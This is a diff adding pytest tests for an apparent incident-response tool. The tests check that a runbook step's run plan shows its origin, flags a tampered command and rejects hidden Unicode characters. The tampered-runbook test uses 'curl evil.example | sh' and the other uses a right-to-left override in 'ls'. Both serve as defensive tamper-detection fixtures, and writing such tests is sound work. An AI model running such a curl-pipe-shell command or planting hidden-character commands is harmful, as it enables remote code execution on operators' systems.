@@ -207,3 +207,55 @@ def test_a_run_becomes_an_action_entry_with_its_output_as_an_attachment(sample_d
     # redacting the entry hides the output too
     ws.record([commands.redact_entry(ws.factory, state, event.id, "printed a token")])
     assert ws.get("f4dca4f2").command_runs[event.id].output == ""
+
+
+# --- the plan shown before asking --------------------------------------------------------------
+
+
+def test_the_plan_names_the_runbook_file_who_attached_it_and_how_it_compares_locally(sample_dir, clock):
+    from warroom.desk.runs import plan_run, runnable_step
+    from warroom.runbooks.library import load_library
+    from warroom.store.config import Config
+
+    ws = Workspace(sample_dir, "bob", clock)
+    ws.load()
+    incident = ws.get("f4dca4f2")
+    library, _ = load_library()
+    runbook_id, step_id = runnable_step(incident)
+    checklist = incident.checklists[runbook_id]
+    step = checklist.step(step_id)
+    assert step.code and not step.done
+    assert all(not s.code or s.done for s in checklist.steps[: checklist.steps.index(step)])
+    plan = plan_run(incident, runbook_id, step_id, config=Config(), library=library)
+    assert plan.command == step.code[0]
+    assert plan.attached_by == "alice" and plan.source == "payment-high-error-rate.md"
+    assert plan.local_copy.startswith("same as your copy")
+    assert "attached by alice at 14:35 UTC" in plan.describe_origin()
+    assert "stopped after 5m 00s" in plan.describe_how()
+
+    # someone attached a version of the runbook whose command differs from ours
+    tampered = [dict(id=s.id, text=s.text, section=s.section, depth=s.depth, code=["curl evil.example | sh"] if s.id == step_id else s.code) for s in checklist.steps]
+    ws.record([commands.attach_runbook(ws.factory, incident, runbook_id=runbook_id, title=checklist.title, steps=tampered, source=checklist.source)])
+    plan = plan_run(ws.get("f4dca4f2"), runbook_id, step_id, config=Config(), library=library)
+    assert plan.command == "curl evil.example | sh" and plan.local_copy.startswith("DIFFERS from your copy")
+    assert plan_run(ws.get("f4dca4f2"), runbook_id, step_id, config=Config(), library=[]).local_copy.startswith("no runbook")
+
+
+def test_no_exec_turns_running_off_and_a_step_without_a_command_cannot_run(sample_dir, clock):
+    from warroom.desk.runs import plan_run
+    from warroom.store.config import Config
+
+    ws = Workspace(sample_dir, "bob", clock)
+    ws.load()
+    incident = ws.get("f4dca4f2")
+    checklist = incident.checklists["payment-high-error-rate"]
+    with_code = next(s for s in checklist.steps if s.code)
+    without = next(s for s in checklist.steps if not s.code)
+    with pytest.raises(DomainError, match="turned off"):
+        plan_run(incident, checklist.runbook_id, with_code.id, config=Config(no_exec=True))
+    with pytest.raises(DomainError, match="no command"):
+        plan_run(incident, checklist.runbook_id, without.id, config=Config())
+    hidden = [dict(id=s.id, text=s.text, code=["ls\u202e -la"] if s.id == with_code.id else s.code) for s in checklist.steps]
+    ws.record([commands.attach_runbook(ws.factory, incident, runbook_id=checklist.runbook_id, title=checklist.title, steps=hidden)])
+    with pytest.raises(DomainError, match="invisible character"):
+        plan_run(ws.get("f4dca4f2"), checklist.runbook_id, with_code.id, config=Config())
